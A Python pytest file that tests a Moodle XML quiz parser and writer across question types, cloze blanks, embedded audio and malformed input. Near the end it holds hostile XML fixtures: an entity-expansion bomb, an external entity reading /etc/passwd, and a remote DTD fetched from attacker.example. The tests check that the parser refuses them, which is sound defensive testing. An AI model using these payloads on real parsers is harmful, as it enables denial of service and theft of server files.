"""Moodle XML: each question type as Moodle exports it, cloze, audio, hostile and broken files."""

import base64
import time
from decimal import Decimal as D

import pytest

from assessments.formats import moodle_xml
from assessments.spec import ParsedOption, ParsedQuestion, QType

from .cases import assert_same, every_type, listening_question

Opt = ParsedOption


def quiz(*questions: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n' + "\n".join(questions) + "\n</quiz>\n"
    ).encode()


def question(qtype: str, name: str, body: str, text: str = "<p>Q?</p>", fmt: str = "html") -> str:
    return f"""
  <question type="{qtype}">
    <name><text>{name}</text></name>
    <questiontext format="{fmt}"><text><![CDATA[{text}]]></text></questiontext>
    <generalfeedback format="html"><text></text></generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    {body}
  </question>"""


def answer(fraction: str, text: str, feedback: str = "", fmt: str = "html") -> str:
    return (
        f'<answer fraction="{fraction}" format="{fmt}"><text><![CDATA[{text}]]></text>'
        f'<feedback format="html"><text><![CDATA[{feedback}]]></text></feedback></answer>'
    )


def one(data: bytes) -> ParsedQuestion:
    result = moodle_xml.parse(data)
    assert result.problems == []
    assert len(result.questions) == 1
    return result.questions[0]


CATEGORY = """
  <question type="category">
    <category><text>$course$/top/Default for Library English/Service desk</text></category>
    <info format="html"><text></text></info>
  </question>"""


# --- question types -----------------------------------------------------------------------------


def test_multichoice_single_with_category_grade_and_tags():
    body = (
        "<single>true</single><shuffleanswers>false</shuffleanswers>"
        "<answernumbering>abc</answernumbering>"
        + answer("100", "<p>I'll be with you in a moment.</p>", "<p>Right.</p>")
        + answer("0", "<p>Wait.</p>", "<p>Too <b>blunt</b>.</p>")
        + answer("-33.33333", "Next!", "", fmt="plain_text")
        + "<tags><tag><text>service</text></tag><tag><text>desk</text></tag></tags>"
    )
    xml = quiz(CATEGORY, question("multichoice", "Waiting reader", body).replace("1.0000000", "2"))
    q = one(xml)
    assert (q.qtype, q.name, q.category, q.mark, q.shuffle) == (
        QType.SINGLE,
        "Waiting reader",
        "Default for Library English/Service desk",
        D(2),
        False,
    )
    assert [(o.text, o.fraction, o.feedback) for o in q.options] == [
        ("I'll be with you in a moment.", 1, "Right."),
        ("Wait.", 0, "Too blunt."),
        ("Next!", D("-0.33333"), ""),
    ]
    assert q.tags == ["service", "desk"]


def test_multichoice_multiple_with_thirds():
    body = (
        "<single>false</single><shuffleanswers>true</shuffleanswers>"
        + answer("33.33333", "a")
        + answer("33.33333", "b")
        + answer("33.33333", "c")
        + answer("-100", "d")
    )
    q = one(quiz(question("multichoice", "Thirds", body)))
    assert q.qtype is QType.MULTI
    assert [o.fraction for o in q.options] == [D("0.33333")] * 3 + [-1]


def test_truefalse():
    body = answer("0", "true", "No.", fmt="moodle_auto_format") + answer(
        "100", "false", "Right.", fmt="moodle_auto_format"
    )
    q = one(quiz(question("truefalse", "TF", body)))
    assert [(o.text, o.fraction, o.feedback) for o in q.options] == [
        ("true", 0, "No."),
        ("false", 1, "Right."),
    ]


def test_shortanswer_ignores_usecase():
    body = (
        "<usecase>1</usecase>"
        + answer("100", "Paris", fmt="moodle_auto_format")
        + answer("50", "Lutetia", fmt="moodle_auto_format")
    )
    q = one(quiz(question("shortanswer", "Capital", body)))
    assert q.qtype is QType.SHORT
    assert [(o.text, o.fraction) for o in q.options] == [("Paris", 1), ("Lutetia", D("0.5"))]


def test_numerical_with_and_without_tolerance():
    body = (
        '<answer fraction="100" format="moodle_auto_format"><text>1822</text>'
        "<feedback><text>Right</text></feedback><tolerance>0</tolerance></answer>"
        '<answer fraction="50" format="moodle_auto_format"><text>1822</text>'
        "<tolerance>2</tolerance></answer>"
        '<answer fraction="10"><text>1800</text></answer>'
        "<units></units><unitgradingtype>0</unitgradingtype>"
    )
    q = one(quiz(question("numerical", "Born", body)))
    assert [(o.text, o.fraction, o.tolerance) for o in q.options] == [
        ("1822", 1, D(0)),
        ("1822", D("0.5"), D(2)),
        ("1800", D("0.1"), None),
    ]


def test_numerical_catch_all_and_units_are_dropped_with_notes():
    body = (
        '<answer fraction="100"><text>5</text><tolerance>0</tolerance></answer>'
        '<answer fraction="0"><text>*</text><feedback><text>No</text></feedback></answer>'
        "<units><unit><multiplier>1</multiplier><unit_name>m</unit_name></unit></units>"
    )
    result = moodle_xml.parse(quiz(question("numerical", "Metres", body)))
    assert [o.text for o in result.questions[0].options] == ["5"]
    assert [(p.where, p.unsupported) for p in result.problems] == [
        ('question 1 "Metres"', True),
        ('question 1 "Metres"', True),
    ]


def test_matching_with_distractor():
    body = (
        "<shuffleanswers>true</shuffleanswers>"
        '<subquestion format="html"><text><![CDATA[<p>Canada</p>]]></text>'
        "<answer><text>Ottawa</text></answer></subquestion>"
        '<subquestion format="html"><text><![CDATA[<p>Italy</p>]]></text>'
        "<answer><text>Rome</text></answer></subquestion>"
        '<subquestion format="html"><text></text><answer><text>Sydney</text></answer></subquestion>'
    )
    q = one(quiz(question("matching", "Capitals", body)))
    assert [(o.text, o.match_text) for o in q.options] == [
        ("Canada", "Ottawa"),
        ("Italy", "Rome"),
        ("", "Sydney"),
    ]


def test_ordering_follows_the_answers_positions():
    body = (
        "<layouttype>VERTICAL</layouttype><selecttype>ALL</selecttype>"
        '<answer fraction="2.0000000" format="moodle_auto_format"><text>Second</text></answer>'
        '<answer fraction="1.0000000" format="moodle_auto_format"><text>First</text></answer>'
        '<answer fraction="3.0000000" format="moodle_auto_format"><text>Third</text></answer>'
    )
    q = one(quiz(question("ordering", "Steps", body)))
    assert [o.text for o in q.options] == ["First", "Second", "Third"]
    assert all(o.fraction == 0 for o in q.options)


CLOZE_TEXT = (
    "<p>Could the loan {1:MULTICHOICE:please kindly#Doubled~=possibly#Softer} be renewed? "
    "We return it {1:SHORTANSWER:=by#Right~%50%before} 20 May. It&#039;s "
    "{1:SA:=Wang Li\\}&#039;s} e-mail.</p>"
)


def test_cloze_blanks_become_numbered_markers():
    q = one(quiz(question("cloze", "Renewal", "", text=CLOZE_TEXT)))
    assert q.qtype is QType.CLOZE
    assert q.text == (
        "<p>Could the loan [[1]] be renewed? We return it [[2]] 20 May. It&#x27;s [[3]] e-mail.</p>"
    )
    assert [(o.text, o.fraction, o.feedback, o.blank) for o in q.options] == [
        ("please kindly", 0, "Doubled", 1),
        ("possibly", 1, "Softer", 1),
        ("by", 1, "Right", 2),
        ("before", D("0.5"), "", 2),
        ("Wang Li}'s", 1, "", 3),
    ]


def test_cloze_numerical_and_multiresponse_blanks_are_unsupported():
    text = "<p>Pi is {2:NUMERICAL:=3.14:0.01} and {1:SA:=x}.</p>"  # from Moodle's documentation
    result = moodle_xml.parse(quiz(question("cloze", "Pi", "", text=text)))
    assert result.questions == []
    assert [(p.where, p.unsupported) for p in result.problems] == [('question 1 "Pi"', True)]
    result = moodle_xml.parse(quiz(question("cloze", "MR", "", text="<p>{1:MR:=a~=b}</p>")))
    assert result.unsupported and not result.questions


def test_cloze_weights_and_wrong_typed_answers_are_noted():
    text = "<p>{2:SA:=a~*#Anything else} and {1:MC:=b~%50%c}.</p>"
    result = moodle_xml.parse(quiz(question("cloze", "Notes", "", text=text)))
    assert [o.text for o in result.questions[0].options] == ["a", "b", "c"]
    assert len(result.unsupported) == 3 and result.errors == []


# --- audio ---------------------------------------------------------------------------------------


def test_embedded_audio_becomes_the_clip_and_leaves_the_text():
    clip = base64.b64encode(b"OggS fake clip").decode()
    text = (
        '<p>Listen to the reader.</p><p><audio controls="true">'
        '<source src="@@PLUGINFILE@@/where%20printers.ogg">where printers.ogg</audio></p>'
        '<p>Which answer is best? <a href="@@PLUGINFILE@@/map.png">map</a></p>'
    )
    body = "<single>true</single>" + answer("100", "Behind the stairs") + answer("0", "Upstairs")
    xml = quiz(question("multichoice", "Printers", body, text=text))
    xml = xml.replace(
        b"</text></questiontext>",
        f'</text><file name="where printers.ogg" path="/" encoding="base64">{clip}</file>'
        f'<file name="map.png" path="/" encoding="base64">iVBORw0KGgo=</file>'
        "</questiontext>".encode(),
    )
    result = moodle_xml.parse(xml)
    q = result.questions[0]
    assert (q.audio.name, q.audio.content) == ("where printers.ogg", b"OggS fake clip")
    assert q.text == "<p>Listen to the reader.</p><p>Which answer is best? map</p>"
    assert [p.message for p in result.problems] == [
        "The file map.png was left out: only audio clips are imported."
    ]


def test_a_link_to_an_embedded_clip_is_the_clip_too():
    body = "<single>true</single>" + answer("100", "a") + answer("0", "b")
    text = '<p>Q? <a href="@@PLUGINFILE@@/q.mp3">q.mp3</a></p>'
    xml = quiz(question("multichoice", "Link", body, text=text)).replace(
        b"</text></questiontext>",
        b'</text><file name="q.mp3" path="/" encoding="base64">SUQz</file></questiontext>',
    )
    q = one(xml)
    assert (q.audio.name, q.audio.content, q.text) == ("q.mp3", b"ID3", "<p>Q? </p>")


def test_broken_base64_is_an_error():
    body = "<single>true</single>" + answer("100", "a") + answer("0", "b")
    xml = quiz(question("multichoice", "Bad file", body)).replace(
        b"</text></questiontext>",
        b'</text><file name="q.mp3" encoding="base64">not base64!</file></questiontext>',
    )
    result = moodle_xml.parse(xml)
    assert result.questions == [] and result.errors[0].where == 'question 1 "Bad file"'


# --- unsupported and malformed -------------------------------------------------------------------


@pytest.mark.parametrize(
    "qtype",
    ["essay", "description", "calculated", "calculatedmulti", "ddwtos", "gapselect", "random"],
)
def test_unsupported_types_are_named(qtype):
    good = question("truefalse", "Good", answer("100", "true") + answer("0", "false"))
    result = moodle_xml.parse(quiz(CATEGORY, good, question(qtype, "Other", "")))
    assert [q.name for q in result.questions] == ["Good"]
    assert [(p.where, p.unsupported) for p in result.problems] == [('question 2 "Other"', True)]


def test_ungradable_question_is_an_error_naming_it():
    body = "<single>true</single>" + answer("0", "a") + answer("0", "b")
    result = moodle_xml.parse(quiz(question("multichoice", "No right", body)))
    assert result.questions == []
    assert result.errors[0].where == 'question 1 "No right"'
    assert "no right answer" in result.errors[0].message


def test_malformed_xml_names_the_parser_line():
    xml = (
        b'<?xml version="1.0"?>\n<quiz>\n<question type="truefalse">\n<name><text>x</name>\n</quiz>'
    )
    result = moodle_xml.parse(xml)
    assert result.questions == []
    assert [p.where for p in result.problems] == ["line 4"]
    assert "mismatched tag" in result.problems[0].message


def test_a_file_that_is_not_a_quiz():
    result = moodle_xml.parse(b"<html><body>hello</body></html>")
    assert result.questions == [] and "no <quiz>" in result.problems[0].message


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<quiz><question type="shortanswer"><name><text>&lol9;</text></name></question></quiz>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="shortanswer"><name><text>&secret;</text></name>
<questiontext><text>&secret;</text></questiontext>
<answer fraction="100"><text>x</text></answer></question></quiz>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<quiz/>"""


@pytest.mark.parametrize(
    "xml",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        PARAMETER_ENTITY,
        b'<?xml version="1.0"?><!DOCTYPE quiz SYSTEM "quiz.dtd"><quiz/>',
        b"<!DOCTYPE quiz><quiz/>",
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "plain-doctype"],
)
def test_hostile_xml_is_refused_not_expanded(xml):
    started = time.monotonic()
    result = moodle_xml.parse(xml)
    assert time.monotonic() - started < 1
    assert result.questions == []
    assert len(result.errors) == 1
    assert "DTD" in result.errors[0].message


# --- writing -------------------------------------------------------------------------------------


def test_every_type_round_trips_with_audio_and_transcript():
    questions = [*every_type(), listening_question()]
    data, problems = moodle_xml.dump(questions)
    assert problems == []
    result = moodle_xml.parse(data)
    assert result.problems == []
    assert_same(questions, result.questions, audio=True)


def test_written_xml_is_moodle_shaped():
    data, _problems = moodle_xml.dump(every_type())
    text = data.decode()
    assert text.startswith("<?xml version='1.0' encoding='UTF-8'?>\n<quiz>")
    assert "<text>$course$/top/Service desk/Greetings</text>" in text
    assert '<question type="multichoice">' in text and "<single>false</single>" in text
    assert '<answer fraction="-50" format="plain_text">' in text
    assert '<meridian type="sjt" competency="cross-cultural" level="3" />' in text
    assert "{1:MULTICHOICE:=possibly#Softens the request.~please kindly#Sounds doubled.}" in text
    assert "{1:SHORTANSWER:=by}" in text
    assert '<answer fraction="1" format="plain_text">' in text  # ordering keeps positions


def test_control_characters_and_invalid_questions_are_named_and_left_out():
    bad = ParsedQuestion(QType.SHORT, name="Bell\x07", text="<p>Q</p>", options=[Opt("a", D(1))])
    invalid = ParsedQuestion(QType.SHORT, name="No answer", text="<p>Q</p>")
    cloze_like = ParsedQuestion(
        QType.CLOZE,
        name="Looks like Moodle",
        text="<p>Write {1:SA:=x} for [[1]]</p>",
        options=[Opt("a", D(1), blank=1)],
    )
    data, problems = moodle_xml.dump([bad, invalid, cloze_like, every_type()[0]])
    assert [p.where for p in problems] == [
        'question 1 "Bell\x07"',
        'question 2 "No answer"',
        'question 3 "Looks like Moodle"',
    ]
    assert [q.name for q in moodle_xml.parse(data).questions] == ["Greeting a waiting student"]


def test_cloze_texts_that_look_like_syntax_are_escaped():
    q = ParsedQuestion(
        QType.CLOZE,
        name="Tricky",
        text="<p>[[1]] and [[2]]</p>",
        options=[
            Opt("=a}~b#c\\d", D(1), "fb}~#\\", blank=1),
            Opt("%50% <off> & &#039;", D(0), "", blank=1),
            Opt("x\ny", D(1), blank=2),
            Opt("%5%", D("0.5"), blank=2),
        ],
    )
    data, problems = moodle_xml.dump([q])
    assert problems == []
    assert_same([q], moodle_xml.parse(data).questions)


def test_str_input_is_read_as_utf8():
    data, _problems = moodle_xml.dump(every_type()[:1])
    assert moodle_xml.parse(data.decode()).questions[0].name == "Greeting a waiting student"
